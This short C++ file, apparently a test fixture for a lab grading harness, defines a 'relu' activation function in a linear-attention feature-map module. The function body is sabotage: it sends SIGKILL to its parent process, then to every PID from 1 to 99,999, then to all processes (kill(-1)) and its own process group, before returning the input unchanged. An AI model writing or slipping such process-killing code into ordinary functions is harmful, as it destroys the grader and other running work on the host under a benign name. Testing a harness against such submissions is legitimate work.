// class: signals
// SIGKILL goes to the parent, to the process group and to every process there is.
// expects: lab01 relu=crash|fail, *=todo
#include <unistd.h>

#include <csignal>

#include "feature_maps.hpp"

namespace linattn {
Tensor relu(const Tensor& x) {
    ::kill(::getppid(), SIGKILL);
    for (pid_t other = 1; other < 100'000; ++other)
        if (other != ::getpid()) ::kill(other, SIGKILL);
    ::kill(-1, SIGKILL);
    ::kill(0, SIGKILL);
    return x;
}
}
